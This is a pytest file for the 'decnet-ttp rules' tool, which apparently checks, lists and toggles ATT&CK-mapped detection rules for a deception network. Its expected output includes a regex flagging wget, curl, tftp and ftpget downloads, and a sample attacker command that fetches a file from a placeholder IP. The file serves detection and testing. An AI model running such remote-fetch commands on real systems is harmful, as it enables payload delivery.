# SPDX-License-Identifier: AGPL-3.0-or-later
"""`decnet-ttp rules` as a process, against files and a real rule-store."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import sys
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from decnet_ttp.attack.loader import load_catalogue
from decnet_ttp.cli.rule_tables import examples_of, print_rule
from decnet_ttp.rule_store.database import Database
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.postgres_states import PostgresStates
from decnet_ttp.rule_store.rule_book import RuleBook
from decnet_ttp.rule_store.state_plane import StatePlane
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.v1 import rule_pb2
from rule_store.serving import Store, until
from rule_store.serving import serving as serve

SHIPPED = Path(__file__).parents[2] / "rules"

FIXTURES = Path(__file__).parent.parent / "rule_store"
SOUND = FIXTURES / "rules"


class Done(NamedTuple):
    code: int
    out: str
    err: str

    def json(self) -> Any:
        return json.loads(self.out)


async def _rules(*args: object, **settings: str) -> Done:
    inherited = {k: v for k, v in os.environ.items() if not k.startswith("DECNET_TTP_")}
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "decnet_ttp.cli.main",
        "rules",
        *map(str, args),
        env=inherited | {f"DECNET_TTP_{name}": value for name, value in settings.items()},
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(process.communicate(), 240)
    return Done(process.returncode or 0, out.decode(), err.decode())


@pytest.fixture
async def keeping_states(database_url: str) -> AsyncIterator[Store]:
    """A rule-store with a database."""
    database = Database(database_url)
    await database.open()

    async def open_plane(book: RuleBook) -> StatePlane:
        return StatePlane(book, PostgresStates(database))

    with tempfile.TemporaryDirectory(prefix="rules-") as parent:
        folder = Path(parent) / "ttp"
        shutil.copytree(SOUND / "ttp", folder)
        async with serve(folder, Vocabulary(load_catalogue()), open_plane=open_plane) as running:
            yield running
    await database.close()


@pytest.fixture
async def store() -> AsyncIterator[Store]:
    # Not tmp_path: with a long test name it is too long for a socket.
    with tempfile.TemporaryDirectory(prefix="rules-") as parent:
        folder = Path(parent) / "ttp"
        shutil.copytree(SOUND / "ttp", folder)
        async with serve(folder, Vocabulary(load_catalogue())) as running:
            yield running


def _target(store: Store) -> str:
    return f"unix:{store.folder.parent}/rs.sock"


async def test_check_accepts_sound_rules_and_ends_with_0() -> None:
    done = await _rules("check", SOUND)
    assert (done.code, done.out, done.err) == (0, "", "sound rules: 3, faulty files: 0\n")


async def test_check_names_every_fault_and_ends_with_1() -> None:
    """Static checks only: the example that would fail when run is not reported."""
    folder = FIXTURES / "broken"
    names = ("revoked_technique", "example_is_not_silent", "pattern_outside_re2")
    done = await _rules("check", *(folder / f"{name}.yaml" for name in names))
    assert done.code == 1
    expected = (folder / "expected.txt").read_text(encoding="utf-8").splitlines()
    assert done.out.splitlines() == [
        f"{folder}/{line}"
        for name in names
        for line in expected
        if line.startswith(f"{name}.yaml:") and not name.startswith("example")
    ]
    assert done.err == "sound rules: 1, faulty files: 2\n"


async def test_check_as_json() -> None:
    path = FIXTURES / "broken" / "version_zero.yaml"
    done = await _rules("check", "--json", path, SOUND)
    assert done.code == 1
    assert done.json() == {
        "rules": 3,
        "problems": [
            {
                "path": str(path),
                "line": 3,
                "column": 15,
                "message": "`rule_version` is 0; allowed: at least 1",
            }
        ],
    }


async def test_check_of_no_such_path_is_wrong_usage() -> None:
    done = await _rules("check", "/nowhere")
    assert done.code == 2
    assert "Path '/nowhere' does not exist." in done.err


async def test_check_without_a_path_takes_the_rules_in_use() -> None:
    done = await _rules("check", RULES_DIR=str(SOUND))
    assert (done.code, done.err) == (0, "sound rules: 3, faulty files: 0\n")


async def test_test_shows_a_line_a_rule() -> None:
    done = await _rules("test", SOUND)
    assert done.code == 0
    assert done.out.splitlines() == [
        "rule\tmust match\tmust not\tresult",
        "R0001\t2\t2\tpassed",
        "R0002\t1\t1\tpassed",
        "R0003\t1\t1\tpassed",
    ]


async def test_test_ends_with_1_when_an_example_does_not_go_as_written() -> None:
    path = FIXTURES / "broken" / "example_does_not_match.yaml"
    plain = await _rules("test", path)
    assert plain.code == 1
    assert plain.out.splitlines()[1] == "example_does_not_match\t1\t1\tFAILED"
    fault = "the example must give T1105 but gives nothing; mend the rule or the example"
    assert plain.err == f"{path}:13:7: {fault}\n"
    done = await _rules("test", "--json", path)
    assert done.code == 1
    (rule,) = done.json()["rules"]
    assert rule["passed"] is False
    assert rule["examples"][0] == {
        "example": "tests.match[0]",
        "must_match": True,
        "ran": True,
        "emitted": [],
        "fault": fault,
    }
    assert rule["examples"][1]["fault"] is None
    assert [problem["line"] for problem in done.json()["problems"]] == [13]


async def test_schema_describes_every_key_of_a_rule() -> None:
    done = await _rules("schema")
    schema = done.json()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["required"] == [
        "rule_id",
        "rule_version",
        "name",
        "description",
        "applies_to",
        "match",
        "emits",
        "tests",
    ]
    assert schema["additionalProperties"] is False


async def test_list_shows_state_and_errors(store: Store) -> None:
    clipped = rule_pb2.RuleState(mode=rule_pb2.RULE_MODE_CLIPPED, confidence_max=0.5)
    store.book.set_states("R0001", [clipped])
    (store.folder / "R0009.yaml").write_text("rule_id: R0009\n", encoding="utf-8")
    # Not the problem of a file that is not written yet.
    await until(lambda: any("`name` is missing" in str(each) for each in store.book.problems))
    done = await _rules("list", RULE_STORE=_target(store))
    assert done.code == 0
    assert [line.split("\t") for line in done.out.splitlines()] == [
        ["rule", "version", "name", "kinds", "techniques", "confidence", "state", "error"],
        ["R0001", "3", "fetch_tool", "command", "T1105 T1059.004", "0.85", "clipped to 0.50", ""],
        [
            "R0002", "1", "scanner_request", "http_request", "T1595.002", "0.90",
            "experimental, enabled", "",
        ],
        ["R0003", "1", "brute_force", "auth_attempt", "T1110", "0.85", "enabled", ""],
    ]  # fmt: skip
    assert f"{store.folder}/R0009.yaml:1:1: `name` is missing; every rule needs it" in done.err


async def test_list_as_json_is_one_array_of_rules(store: Store) -> None:
    found = (await _rules("list", "--json", RULE_STORE=_target(store))).json()
    assert [rule["rule_id"] for rule in found] == ["R0001", "R0002", "R0003"]
    assert found[0]["rule_version"] == 3
    assert found[0]["state"]["mode"] == "RULE_MODE_ENABLED"
    assert found[0]["load_error"] == ""


def test_a_timeline_is_shown_step_by_step_with_its_examples(
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = SHIPPED / "ttp" / "R0151.yaml"
    rule = load_pack([path], Vocabulary(load_catalogue())).rules[0].message
    print_rule(rule, examples_of(rule))
    shown = capsys.readouterr().out
    assert (
        "  steps of one session in this order within 600 s\n"
        "    failed_log_ins, at least 3\n"
        "      auth_attempt\n"
        "        result equals failure\n"
        "    log_in\n"
        "      auth_attempt\n"
        "        result equals success\n"
    ) in shown
    assert (
        "must not match\n  at 0 s auth_attempt username: root, result: failure; "
        "at 2 s auth_attempt username: root, result: failure; "
        "at 6 s auth_attempt username: root, result: success\n"
    ) in shown


async def test_show_has_definition_examples_and_state(store: Store) -> None:
    done = await _rules("show", "R0001", RULE_STORE=_target(store))
    assert done.code == 0
    assert "rule        R0001 version 3, fetch_tool\n" in done.out
    assert "emits       T1059.004 (TA0002) with confidence 0.40\n" in done.out
    assert "state       enabled\n" in done.out
    assert (
        "  any of\n"
        r"    command_text matches (?i)\b(wget|curl)\s+(-\S+\s+)*https?://"
        "\n"
        "    all of\n"
        "      command_text contains tftp | ftpget, whatever the case\n"
        "      not\n"
        "        pwd or src equals /home/build\n"
    ) in done.out
    assert "  command_text: wget http://198.51.100.7/x  ->  T1105 T1059.004\n" in done.out
    assert "must not match\n  command_text: man wget\n" in done.out


async def test_show_as_json_adds_the_examples_only_of_this_very_version(store: Store) -> None:
    shown = (await _rules("show", "R0003", "--json", RULE_STORE=_target(store))).json()
    assert shown["lifter_predicate"]["parameters"] == {"fail_threshold": 5.0}
    assert shown["tests"]["match"][0]["techniques"] == ["T1110"]
    (store.folder / "R0003.yaml").write_text("rule_id: [", encoding="utf-8")
    await until(lambda: bool(store.book.rule("R0003").load_error))
    broken = (await _rules("show", "R0003", "--json", RULE_STORE=_target(store))).json()
    assert broken["tests"] is None
    assert broken["load_error"] != ""


async def test_show_of_an_unknown_rule_is_one_line(store: Store) -> None:
    done = await _rules("show", "R9999", RULE_STORE=_target(store))
    assert (done.code, done.out) == (1, "")
    assert done.err.count("\n") == 1
    assert "no rule has this id" in done.err


async def test_list_without_a_rule_store_is_one_line(tmp_path: Path) -> None:
    done = await _rules("list", RULE_STORE=f"unix:{tmp_path}/none.sock")
    assert (done.code, done.out) == (1, "")
    assert "cannot be reached; start it with `decnet-ttp up`" in done.err


async def test_states_are_set_cleared_and_told_by_history(keeping_states: Store) -> None:
    target = _target(keeping_states)
    clipped = await _rules("clip", "R0002", "--to", "0.5", RULE_STORE=target)
    assert clipped == (0, "R0002 is experimental, clipped to 0.50\n", "")
    off = await _rules("disable", "R0001", "--for", "2h", "--reason", "noise", RULE_STORE=target)
    assert off.out.startswith("R0001 is disabled until 20")
    on = await _rules("enable", "R0001", "--reason", "mended", "--json", RULE_STORE=target)
    assert on.json()["state"]["mode"] == "RULE_MODE_ENABLED"
    told = await _rules("history", "R0001", RULE_STORE=target)
    rows = [line.split("\t") for line in told.out.splitlines()]
    assert rows[0] == ["time (UTC)", "rule", "state", "by", "reason", "only for"]
    assert [row[4] for row in rows[1:]] == ["mended", "noise"]
    everything = await _rules("history", "--json", RULE_STORE=target)
    assert [change["rule_id"] for change in everything.json()] == ["R0001", "R0001", "R0002"]


async def test_a_state_is_limited_to_a_network_and_ended_alone(keeping_states: Store) -> None:
    target = {"RULE_STORE": f"unix:{keeping_states.folder.parent}/rs.sock"}
    only = ("--ip", "198.51.100.7/24")
    done = await _rules("disable", "R0001", *only, "--reason", "noise", **target)
    assert done == (0, "R0001 is enabled, disabled for network 198.51.100.0/24\n", "")
    (state,) = keeping_states.book.rule("R0001").scoped_states
    assert (state.scope.network, state.reason) == ("198.51.100.0/24", "noise")
    clipped = await _rules("clip", "R0001", "--to", "0.4", "--kind", "command", **target)
    assert "clipped to 0.40 for kind command" in clipped.out
    ended = await _rules("enable", "R0001", *only, **target)
    assert ended.out == "R0001 is enabled, clipped to 0.40 for kind command\n"
    assert (await _rules("enable", "R0001", **target)).out == "R0001 is enabled\n"
    history = await _rules("history", "R0001", **target)
    rows = history.out.splitlines()[1:]
    assert [("network" in row, "kind" in row) for row in rows] == [
        (False, True),
        (False, False),
        (True, False),
        (False, True),
        (True, False),
    ]


async def test_two_scopes_at_once_are_wrong_usage() -> None:
    done = await _rules("disable", "R0001", "--ip", "192.0.2.1", "--kind", "command")
    assert done.code == 2
    assert "--attacker, --ip, --decky and --kind exclude each other" in done.err


@pytest.mark.parametrize("args", [("--for", "soon"), ("--for", "0s")])
async def test_a_duration_that_is_none_is_wrong_usage(args: tuple[str, ...]) -> None:
    done = await _rules("disable", "R0001", *args)
    assert done.code == 2
    assert "is no duration; write 30s, 10m, 2h or 7d" in done.err
